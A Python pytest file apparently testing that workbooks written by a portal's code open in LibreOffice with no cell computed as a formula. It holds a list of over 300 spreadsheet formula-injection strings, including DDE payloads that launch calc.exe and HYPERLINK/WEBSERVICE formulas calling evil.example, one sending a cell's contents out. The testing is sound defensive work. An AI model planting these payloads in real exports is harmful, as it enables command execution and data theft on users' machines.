"""LibreOffice opens what the portal writes: no cell of it is computed, and what was typed stands there (trust.md row 26).

Three hundred texts that some program takes for a formula, through each writer of workbooks.
"""

import re
import subprocess
from collections.abc import Callable
from datetime import date
from html import unescape
from itertools import product
from pathlib import Path
from typing import Any, Final

import pytest

from core.workbooks import Column, Fault, Heading, HeldLine, Layout, build_returned, write_ledger
from core.workbooks.formats import FORMULA_STARTS, storable
from core.workbooks.official import Filing, Table, TableColumn, write_tables
from tests.core.workbooks.books import THINGS

BEGINNINGS: Final = (
    *FORMULA_STARTS,
    "\n=",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff=",
    "\x01=",
    "\x00=",
    "'=",
    '"=',
    ";=",
    ",=",
    "{=",
    "=+",
    "+-",
    "@@",
    "of:=",
    "==",
    "=\t",
    "\x0b=",
)
FORMULAS: Final = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.example/?"&A1,"请点击")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example")',
    'DDE("soffice";"a";"b")',
    "MSEXCEL|'\\..\\..\\calc.exe'!''",
    "_xlfn.FORMULATEXT(A1)",
    "A1",
    'INDIRECT("A"&1)',
    "10",
    "2023-11-23",
)
HOSTILE: Final = [beginning + formula for beginning, formula in product(BEGINNINGS, FORMULAS)]
TODAY: Final = date(2023, 11, 23)


def ledger(path: Path) -> None:
    layout: Layout[Any] = Layout(
        kind="page",
        sheet="示例",
        version="1",
        identity=(),
        check=lambda row, facts: None,
        columns=(Column(title="名称", key="name", type="text"),),
    )
    write_ledger(layout, [{"name": text} for text in HOSTILE], path, heading=Heading("示例", "示例局", TODAY))


def official(path: Path) -> None:
    table = Table("示例", "附表", "示例", "户", (TableColumn("名称", 20),), [(text,) for text in HOSTILE])
    write_tables(path, heading="示例", filing=Filing("示例局", TODAY, TODAY), tables=[table], explanations=HOSTILE[:20])


def returned(path: Path) -> None:
    fault = Fault("type", "error", "B", "=1+1", "name", "=1+1", "=1+1", "=1+1")
    build_returned(THINGS, [HeldLine(n, text, {"name": text}, (fault,)) for n, text in enumerate(HOSTILE)], path)


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """What LibreOffice makes of each writer's workbook, as its own flat XML."""
    folder = tmp_path_factory.mktemp("office")
    writers: tuple[Callable[[Path], None], ...] = (ledger, official, returned)
    for write in writers:
        write(folder / f"{write.__name__}.xlsx")
    words = [
        "soffice",
        f"-env:UserInstallation=file://{folder}/profile",
        "--headless",
        "--convert-to",
        "fods",
        "--outdir",
    ]
    books = [str(folder / f"{write.__name__}.xlsx") for write in writers]
    subprocess.run([*words, str(folder), *books], check=True, capture_output=True, timeout=300)
    return {write.__name__: (folder / f"{write.__name__}.fods").read_text(encoding="utf-8") for write in writers}


CELL: Final = re.compile(r"<table:table-cell[^>]*(?<!/)>(.*?)</table:table-cell>", re.DOTALL)


def cells(book: str) -> set[str]:
    """The texts of the cells, without spaces: LibreOffice has elements of its own for them."""
    return {squeezed(unescape(re.sub(r"<[^>]*>", "", one))) for one in CELL.findall(book)}


def squeezed(text: str) -> str:
    return re.sub(r"\s", "", text)


@pytest.mark.parametrize("writer", ["ledger", "official", "returned"])
def test_no_cell_is_computed(opened: dict[str, str], writer: str) -> None:
    assert len(set(HOSTILE)) >= 300
    assert "table:formula" not in opened[writer]
    assert {squeezed(storable(text)) for text in HOSTILE} - cells(opened[writer]) == set()
